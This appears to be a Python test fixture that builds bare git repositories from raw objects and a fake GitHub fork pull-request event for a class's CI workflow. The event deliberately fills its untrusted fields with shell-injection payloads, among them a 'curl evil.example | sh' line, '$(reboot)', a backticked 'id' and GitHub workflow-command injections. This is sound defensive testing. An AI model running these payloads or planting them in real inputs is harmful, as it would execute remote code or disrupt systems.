"""A class's git repository, made of objects directly, so that it can contain anything."""

import json
import os
import subprocess
from pathlib import Path

RIGHT_SOURCE = b"print('a server')\n"


class Entry:
    """A tree entry that is not a regular file: a link or a submodule."""

    def __init__(self, mode: str, data: bytes) -> None:
        self.mode = mode
        self.data = data


def link(target: bytes) -> Entry:
    return Entry("120000", target)


SUBMODULE = Entry("160000", b"")


class ClassRepository:
    """A bare repository, so there are no files that could be read by mistake."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.git("init", "--quiet", "--bare", "--initial-branch=main", str(folder), at=Path("/"))

    def git(self, *arguments: str, data: bytes = b"", at: Path | None = None, **env: str) -> str:
        done = subprocess.run(
            ["git", *arguments],
            cwd=at or self.folder,
            input=data,
            stdout=subprocess.PIPE,
            check=True,
            env={
                "PATH": os.environ["PATH"],
                "GIT_CONFIG_GLOBAL": os.devnull,
                "GIT_CONFIG_NOSYSTEM": "1",
                **env,
            },
        )
        return done.stdout.decode("utf-8", "surrogateescape").strip()

    def commit(
        self,
        changes: dict[str, bytes | Entry | None],
        *parents: str,
        mail: str = "teacher@school.example",
    ) -> str:
        """Commit ``changes`` to the first parent (None deletes the path), and return the commit."""
        index = {"GIT_INDEX_FILE": str(self.folder / "scratch-index")}
        self.git("read-tree", *(parents[:1] or ["--empty"]), **index)
        lines = []
        for path, made in changes.items():
            if made is None:
                mode, blob = "0", "0" * 40
            elif made is SUBMODULE:
                mode, blob = "160000", "1" * 40
            else:
                entry = made if isinstance(made, Entry) else Entry("100644", made)
                mode = entry.mode
                blob = self.git("hash-object", "-w", "--stdin", data=entry.data)
            lines.append(f"{mode} {blob}\t{path}\0".encode("utf-8", "surrogateescape"))
        self.git("update-index", "-z", "--index-info", data=b"".join(lines), **index)
        tree = self.git("write-tree", **index)
        people = {
            f"GIT_{role}_{what}": value
            for role in ("AUTHOR", "COMMITTER")
            for what, value in (("NAME", "somebody"), ("EMAIL", mail), ("DATE", "1700000000 +0800"))
        }
        options = [word for parent in parents for word in ("-p", parent)]
        return self.git("commit-tree", tree, *options, "-m", "a commit", **people)

    def point(self, ref: str, commit: str) -> None:
        self.git("update-ref", ref, commit)


def event(base: str, head: str, *, login: str = "zhang", action: str = "opened") -> dict:
    """An event as GitHub passes it for a pull request from a fork, with hostile text in every
    untrusted field."""
    return {
        "action": action,
        "number": 7,
        "pull_request": {
            "number": 7,
            "title": '"; curl evil.example | sh; echo "::error::x',
            "body": "$(reboot)\n::add-mask::100",
            "user": {"login": login, "type": "User"},
            "base": {"ref": "main", "sha": base, "repo": {"full_name": "school/class"}},
            "head": {"ref": "x`id`", "sha": head, "repo": {"full_name": f"{login}/class"}},
        },
        "repository": {"full_name": "school/class", "default_branch": "main"},
        "sender": {"login": login},
    }


def write_event(file: Path, content: dict) -> Path:
    file.write_text(json.dumps(content), encoding="utf-8")
    return file
